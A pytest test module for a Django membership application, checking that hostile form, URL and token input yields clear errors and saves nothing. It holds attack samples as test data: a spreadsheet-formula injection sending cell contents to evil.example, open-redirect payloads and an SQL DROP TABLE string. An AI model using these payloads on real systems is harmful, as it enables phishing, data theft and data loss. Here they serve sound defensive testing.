"""Hostile input on every form, URL parameter and token: a clear error, nothing half-saved."""

import pytest

from members.models import MembershipStatus

from .conftest import snapshot

pytestmark = pytest.mark.django_db

LONG = "x" * 5000
INJECTION = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


# --- Membership decisions -------------------------------------------------------------
@pytest.mark.parametrize("pk", ["0", "999999"])
def test_unknown_person_is_404(client, focal_point, pk):
    client.force_login(focal_point)
    assert client.post(f"/en/members/{pk}/membership/", {"action": "approve"}).status_code == 404


def test_non_numeric_ids_do_not_route(client, focal_point):
    client.force_login(focal_point)
    assert client.post("/en/members/abc/membership/", {"action": "approve"}).status_code == 404
    assert client.get("/en/members/-1/").status_code == 404


def test_another_countrys_person_is_forbidden_and_untouched(client, focal_point, other_focal_point):
    from ..factories import UserFactory

    foreigner = UserFactory(country=other_focal_point.country, status=MembershipStatus.APPLICANT)
    client.force_login(focal_point)
    before = snapshot()
    for action in ("approve", "decline", "suspend", "reinstate"):
        response = client.post(
            f"/en/members/{foreigner.pk}/membership/", {"action": action, "reason": "r"}
        )
        assert response.status_code == 403
    assert (
        client.post(
            f"/en/members/{other_focal_point.pk}/membership/", {"action": "suspend", "reason": "r"}
        ).status_code
        == 403
    )
    assert snapshot() == before


@pytest.mark.parametrize(
    "data",
    [
        {"action": "delete"},
        {"action": ""},
        {},
        {"action": "decline", "reason": ""},
        {"action": "decline", "reason": "   "},
        {"action": "decline", "reason": LONG},
        {"action": "approve" * 100},
    ],
)
def test_bad_decision_forms_change_nothing(client, focal_point, requester, data):
    client.force_login(focal_point)
    before = snapshot()
    response = client.post(f"/en/members/{requester.pk}/membership/", data)
    assert response.status_code == 400
    assert 'class="errorlist' in response.content.decode()
    assert snapshot() == before


def test_a_decision_that_no_longer_applies_explains_why(client, focal_point, member):
    client.force_login(focal_point)
    before = snapshot()
    response = client.post(f"/en/members/{member.pk}/membership/", {"action": "approve"})
    assert response.status_code == 400
    assert "This cannot be done" in response.content.decode()
    assert snapshot() == before


@pytest.mark.parametrize(
    "target",
    [
        "https://evil.example/phish",
        "//evil.example/phish",
        "/\\evil.example/phish",
        "\\\\evil.example",
        "javascript:alert(1)",
        "http://testserver@evil.example/",
        " https://evil.example/",
    ],
)
def test_the_next_parameter_cannot_redirect_off_site(client, focal_point, requester, target):
    client.force_login(focal_point)
    response = client.post(
        f"/en/members/{requester.pk}/membership/",
        {"action": "approve", "next": target},
    )
    assert response.status_code == 302
    assert response["Location"] == "/en/members/roster/"


def test_csv_injection_in_a_reason_is_stored_as_text_and_exported_safely(
    client, focal_point, requester
):
    from members.models import MembershipEvent

    client.force_login(focal_point)
    client.post(
        f"/en/members/{requester.pk}/membership/", {"action": "decline", "reason": INJECTION}
    )
    assert MembershipEvent.objects.get().reason == INJECTION
    requester.refresh_from_db()
    requester.organisation = INJECTION
    requester.save()
    body = client.get("/en/members/roster/export.csv").content.decode("utf-8-sig")
    assert "'=HYPERLINK" in body
    assert "\n=HYPERLINK" not in body and ",=HYPERLINK" not in body


# --- Roster and directory parameters ------------------------------------------------------
@pytest.mark.parametrize(
    ("query", "status"),
    [
        ("country=ZZ", 404),
        ("country=" + LONG, 404),
        ("country=jo", 200),
        ("country=JO&status=bogus", 400),
        ("country=JO&q=" + LONG, 400),
        ("country=JO&page=abc", 404),
        ("country=JO&page=99999", 200),
        ("country=JO&page=-1", 404),
        ("country=JO&q=%27%3B+DROP+TABLE+members_user%3B--", 200),
    ],
)
def test_roster_parameters_for_a_facilitator(client, facilitator, member, query, status):
    client.force_login(facilitator)
    response = client.get(f"/en/members/roster/?{query}")
    assert response.status_code == status
    if status == 400:
        assert 'class="errorlist' in response.content.decode()


@pytest.mark.parametrize("query", ["country=MA", "country=XX", "country=" + LONG])
def test_a_focal_point_cannot_reach_another_roster_by_url(
    client, focal_point, other_focal_point, query
):
    client.force_login(focal_point)
    assert client.get(f"/en/members/roster/?{query}").status_code == 403
    assert client.get(f"/en/members/roster/export.csv?{query}").status_code == 403


@pytest.mark.parametrize(
    "query", ["country=ZZ", "topic=no-such-topic", "q=" + LONG, "expertise=" + LONG]
)
def test_directory_bad_filters_are_explained(member_client, query):
    response = member_client.get(f"/en/members/?{query}")
    assert response.status_code == 400
    assert 'class="errorlist' in response.content.decode()


# --- Profile -----------------------------------------------------------------------
def profile(where, **overrides):
    data = {
        "name_arabic": "رنا",
        "name_latin": "Rana",
        "country": where.pk,
        "organisation": "Org",
        "position": "Pos",
        "preferred_language": "ar",
        "timezone": "",
        "notification_mode": "digest",
        "digest_frequency": "weekly",
    }
    data.update(overrides)
    return data


@pytest.mark.parametrize(
    "overrides",
    [
        {"name_arabic": "", "name_latin": "  "},
        {"name_latin": LONG},
        {"organisation": LONG},
        {"organisation": ""},
        {"expertise": LONG},
        {"timezone": "Mars/Olympus_Mons"},
        {"preferred_language": "fr"},
        {"digest_frequency": "hourly"},
        {"topics": ["999999"]},
        {"topics": ["not-a-number"]},
    ],
)
def test_bad_profile_input_saves_nothing(member_client, member, country, overrides):
    before = snapshot()
    response = member_client.post("/en/members/profile/", profile(country, **overrides))
    assert response.status_code == 400
    assert 'class="errorlist' in response.content.decode()
    assert snapshot() == before


def test_an_approved_member_cannot_move_country_by_posting_it(
    member_client, member, other_country, country
):
    response = member_client.post("/en/members/profile/", profile(other_country))
    assert response.status_code == 302
    member.refresh_from_db()
    assert member.country == country


@pytest.mark.parametrize("bad", ["999999", "JO", "", "-1"])
def test_an_applicant_cannot_pick_a_country_that_does_not_exist(client, applicant, country, bad):
    client.force_login(applicant)
    before = snapshot()
    data = profile(country)
    data["country"] = bad
    assert client.post("/en/members/profile/", data).status_code == 400
    assert snapshot() == before


def test_an_applicant_can_correct_their_country(client, applicant, other_country):
    client.force_login(applicant)
    response = client.post("/en/members/profile/", profile(other_country, timezone=""))
    assert response.status_code == 302
    applicant.refresh_from_db()
    assert applicant.country == other_country
    assert applicant.timezone == "Africa/Casablanca"


# --- Invitations and account closing ------------------------------------------------------
@pytest.mark.parametrize(
    "data",
    [
        {"email": "not-an-email", "language": "en"},
        {"email": "a" * 300 + "@example.org", "language": "en"},
        {"email": "ok@example.org", "language": "xx"},
        {"email": "", "language": "en"},
    ],
)
def test_bad_invitations_send_nothing(client, focal_point, data):
    client.force_login(focal_point)
    before = snapshot()
    response = client.post("/en/members/roster/invite/", data)
    assert response.status_code == 400
    assert snapshot() == before


def test_facilitator_inviting_into_an_unknown_country_is_refused(client, facilitator, country):
    client.force_login(facilitator)
    before = snapshot()
    response = client.post(
        "/en/members/roster/invite/", {"email": "x@example.org", "country": "ZZ", "language": "en"}
    )
    assert response.status_code == 400
    assert snapshot() == before


@pytest.mark.parametrize(
    "data",
    [{}, {"password": "wrong", "confirm": "on"}, {"password": "correct horse battery staple"}],
)
def test_closing_an_account_needs_the_password_and_the_confirmation(member_client, data):
    before = snapshot()
    response = member_client.post("/en/members/profile/close/", data)
    assert response.status_code == 400
    assert snapshot() == before


@pytest.mark.parametrize("token", ["garbage", "x" * 3000, "1:abc"])
def test_unsubscribe_garbage_tokens(client, db, token):
    assert client.get(f"/en/members/unsubscribe/{token}/").status_code == 400


# --- Signup ------------------------------------------------------------------------
@pytest.mark.parametrize(
    "overrides",
    [
        {"name_arabic": "", "name_latin": ""},
        {"name_latin": LONG},
        {"organisation": LONG},
        {"country": "999999"},
        {"timezone": "Mars/Olympus_Mons"},
        {"topics": ["999999"]},
        {"digest_frequency": "hourly"},
        {"expertise": LONG},
    ],
)
def test_bad_signups_create_no_account(client, country, overrides):
    from members.models import User

    data = {
        "email": "new.person@example.org",
        "password1": "a long and unusual passphrase",
        "password2": "a long and unusual passphrase",
        "name_arabic": "ليلى",
        "name_latin": "",
        "country": country.pk,
        "organisation": "Org",
        "position": "Pos",
        "preferred_language": "ar",
    }
    data.update(overrides)
    response = client.post("/en/accounts/signup/", data)
    assert response.status_code == 200  # allauth re-renders the form with its errors
    assert 'class="errorlist' in response.content.decode()
    assert not User.objects.filter(email="new.person@example.org").exists()


def test_admin_decline_without_a_reason_changes_nothing(client, facilitator, requester):
    from members.demo import facilitators_group

    facilitator.groups.add(facilitators_group())
    client.force_login(facilitator)
    before = snapshot()
    response = client.post(
        "/en/admin/members/user/",
        {
            "action": "decline_selected",
            "_selected_action": [requester.pk],
            "apply": "1",
            "reason": "",
        },
    )
    assert response.status_code == 200
    assert 'class="errorlist' in response.content.decode()
    assert snapshot() == before
